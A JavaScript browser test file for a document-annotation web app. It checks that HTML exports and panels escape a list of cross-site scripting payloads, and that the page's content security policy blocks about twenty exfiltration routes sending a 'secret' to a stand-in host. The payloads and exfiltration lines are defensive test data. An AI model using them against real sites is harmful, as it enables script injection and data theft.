/** What gets in cannot run, and what would run cannot get anything out: exports in an ordinary page, findings in the panels, the policy under attack. */
import { once } from "node:events";
import { createServer } from "node:http";
import sirv from "sirv";
import { toHTML } from "../../www/lib/export/index.js";
import { annotator, TEXT } from "./fixture.js";
import { expect, ORIGIN, test } from "./page.js";
/** @import { RequestListener } from "node:http" */
/** @import { Annotation } from "../../www/lib/types.js" */

/** Words that would run wherever they are taken for markup: in an element, an attribute of either quotation mark, a style, a title, a link, a template. */
const WORDS = [
  `<script>top.owned=1</script>`, `<img src=x onerror=top.owned=1>`, `"><img src=x onerror=top.owned=1>`, `'><svg onload=top.owned=1>`, `" autofocus onfocus=top.owned=1 x="`,
  `</title><script>top.owned=1</script>`, `</style><script>top.owned=1</script>`, `--><script>top.owned=1</script>`, `]]><script>top.owned=1</script>`, `javascript:top.owned=1`,
  `\u0000<script>top.owned=1</script>`, `<math><mtext><table><mglyph><style><img src=x onerror=top.owned=1>`, `&lt;img src=x onerror=top.owned=1&gt;`, "${top.owned=1}", `{{constructor.constructor("top.owned=1")()}}`,
];

/**
 * The article of the fixture with such words for everything that a finding says in words: names, roles, values, reasons.
 *
 * @param {string} words
 * @param {Annotation} [annotation]
 */
function hostile(words, annotation = annotator.annotate(TEXT)) {
  const evidence = [{ rule: "test-rule", spans: [], note: words }];
  return /** @type {Annotation} */ ({
    ...annotation,
    entities: annotation.entities.map((entity) => ({ ...entity, name: words, aliases: [words], evidence, ...("roles" in entity && { roles: entity.roles.map((role) => ({ ...role, text: words })) }) })),
    quotes: annotation.quotes.map((quote) => ({ ...quote, evidence, cue: quote.cue && { ...quote.cue, lemma: words } })),
    dates: annotation.dates.map((date) => ({ ...date, evidence })),
    publication: { ...annotation.publication, evidence },
  });
}

test("an export runs nothing in a page that lets everything run", async ({ reader, page }) => {
  reader.files.set("/lax.html", Buffer.from("<!doctype html><title>lax</title><body>"));
  await page.goto(`${ORIGIN}/lax.html`);
  expect(await rendered([`<img src=x onerror=top.owned=1>`]), "this page does run what is not escaped").toBe(1);
  await page.reload();
  const files = WORDS.flatMap((words) => [
    ...[annotator.annotate(`${words} said Ada Quill.`), hostile(words)].flatMap((annotation) => [toHTML(annotation), toHTML(annotation, { style: "highlighted" })]),
  ]);
  expect(await rendered(files)).toBe(0);
  reader.problems.length = 0; // The image of the first is not there.

  /** @param {string[]} files */
  function rendered(files) {
    return page.evaluate(async (files) => {
      Reflect.set(globalThis, "owned", 0);
      for (const file of files) {
        const frame = Object.assign(document.createElement("iframe"), { srcdoc: file });
        const shown = new Promise((resolve) => frame.addEventListener("load", resolve));
        document.body.append(frame);
        await shown;
        const inside = document.createElement("div");
        inside.innerHTML = file;
        document.body.append(inside);
        await new Promise((resolve) => setTimeout(resolve, 20));
        for (const focused of frame.contentDocument?.querySelectorAll("[autofocus]") ?? []) /** @type {HTMLElement} */ (focused).focus();
        frame.remove();
        inside.remove();
      }
      return Reflect.get(globalThis, "owned");
    }, files);
  }
});

test("names, roles and reasons are words in every panel", async ({ reader, page }) => {
  await reader.fixture();
  for (const words of WORDS) {
    const file = JSON.stringify(hostile(words));
    await reader.article.locator("input[type=file]").setInputFiles({ name: "a.json", mimeType: "application/json", buffer: Buffer.from(file) });
    await expect(reader.text).toContainText("A clerk said");
    const foreign = await page.evaluate(() => {
      /** @param {ParentNode} root @returns {Element[]} */
      const all = (root) => [...root.querySelectorAll("*")].flatMap((element) => [element, ...(element.shadowRoot ? all(element.shadowRoot) : [])]);
      return all(document.body).filter((element) => element.matches("script:not([src]), math, iframe, object, embed, img[onerror], svg[onload], [onfocus], [href^='javascript:']")).length;
    });
    expect(foreign, words).toBe(0);
  }
  expect(await page.evaluate(() => Reflect.get(globalThis, "owned"))).toBeUndefined();
});

/** One line a way out: its name, and what a script that got in would write. The browser has to refuse each by a rule of the page; ELSEWHERE listens. */
const LEAKS = {
  fetch: () => void fetch("http://ELSEWHERE/?secret").catch(() => {}),
  "fetch, own origin": () => void fetch("/?secret").catch(() => {}),
  XMLHttpRequest: () => { const request = new XMLHttpRequest(); request.open("GET", "http://ELSEWHERE/?secret"); request.send(); },
  WebSocket: () => void new WebSocket("ws://ELSEWHERE/?secret"),
  EventSource: () => void new EventSource("http://ELSEWHERE/?secret"),
  sendBeacon: () => void navigator.sendBeacon("http://ELSEWHERE/?secret"),
  image: () => void (new Image().src = "http://ELSEWHERE/?secret"),
  "image in a style": () => { document.body.style.setProperty("background-image", "url(http://ELSEWHERE/?secret)"); document.body.getBoundingClientRect(); },
  audio: () => void (new Audio("http://ELSEWHERE/?secret").load()),
  font: () => void new FontFace("x", "url(http://ELSEWHERE/?secret)").load().catch(() => {}),
  script: () => document.head.append(Object.assign(document.createElement("script"), { src: "http://ELSEWHERE/?secret" })),
  "import()": () => void import(String("http://ELSEWHERE/?secret")).catch(() => {}),
  stylesheet: () => document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "http://ELSEWHERE/?secret" })),
  frame: () => document.body.append(Object.assign(document.createElement("iframe"), { src: "http://ELSEWHERE/?secret" })),
  object: () => document.body.append(Object.assign(document.createElement("object"), { data: "http://ELSEWHERE/?secret" })),
  form: () => { const form = document.body.appendChild(Object.assign(document.createElement("form"), { action: "http://ELSEWHERE/", method: "post", target: "_self" })); form.submit(); },
  "a worker's fetch": () => {
    const script = `addEventListener("securitypolicyviolation", (event) => postMessage(event.effectiveDirective)); fetch("http://ELSEWHERE/?secret").catch(() => {});`;
    const worker = new Worker(URL.createObjectURL(new Blob([script])));
    return new Promise((resolve) => worker.addEventListener("message", ({ data }) => resolve(data)));
  },
  eval: () => { try { new Function("top.owned = 1")(); } catch { /* as it should be */ } },
  "inline script": () => document.head.append(Object.assign(document.createElement("script"), { textContent: "top.owned = 1" })),
  "inline handler": () => document.body.insertAdjacentHTML("beforeend", `<img src="data:," onerror="top.owned = 1">`),
};

test("the policy refuses every way out", async ({ context }) => {
  /** @type {(string | undefined)[]} */
  const heard = [];
  const elsewhere = await listening(({ url }, answer) => void (heard.push(url), answer.end()));
  const ways = Object.entries(LEAKS).map(([way, leak]) => `${JSON.stringify(way)}: ${leak}`.replaceAll("ELSEWHERE", elsewhere.host));
  const www = sirv(new URL("../../www", import.meta.url).pathname, { dev: true });
  const site = await listening((request, answer) => {
    if (request.url === "/lax.html") answer.setHeader("content-type", "text/html").end("<!doctype html><title>lax</title><body>");
    else if (request.url === "/leaks.js") answer.setHeader("content-type", "text/javascript").end(`export default {${ways.join(",\n")}}`); // The page's own, as its policy sees it.
    else www(request, answer);
  });
  const page = await context.newPage();
  await page.goto(`http://${site.host}/`);
  const refused = await page.evaluate(leak);
  expect(Object.entries(refused).filter(([, rule]) => rule === "nothing")).toEqual([]);
  expect(Object.keys(refused)).toEqual(Object.keys(LEAKS));
  expect(heard).toEqual([]);
  expect(await page.evaluate(() => Reflect.get(globalThis, "owned"))).toBeUndefined();

  await page.goto(`http://${site.host}/lax.html`);
  await page.evaluate(async () => (await import(String("/leaks.js"))).default.image());
  await expect.poll(() => heard, "without a policy it is heard elsewhere").toEqual(["/?secret"]);
  await page.close();
  site.close();
  elsewhere.close();
});

/** A server on this machine. @param {RequestListener} answer */
async function listening(answer) {
  const server = createServer(answer).listen(0, "127.0.0.1");
  await once(server, "listening");
  const { port } = /** @type {import("node:net").AddressInfo} */ (server.address());
  return { host: `127.0.0.1:${port}`, close: () => (server.close(), server.closeAllConnections()) };
}

/** Tries every way, and says which rule refused it. */
async function leak() {
  /** @type {Record<string, unknown>} */
  const refused = {};
  for (const [way, leak] of Object.entries((await import(String("/leaks.js"))).default)) {
    const rule = new Promise((resolve) => document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), { once: true }));
    let told;
    try {
      told = leak();
    } catch {
      // Some browsers refuse at once.
    }
    const late = new Promise((resolve) => setTimeout(() => resolve("nothing"), 2000));
    refused[way] = await Promise.race([rule, late, ...(told ? [told] : [])]);
    await new Promise((resolve) => setTimeout(resolve, 50)); // for what is said of one way twice
  }
  return refused;
}
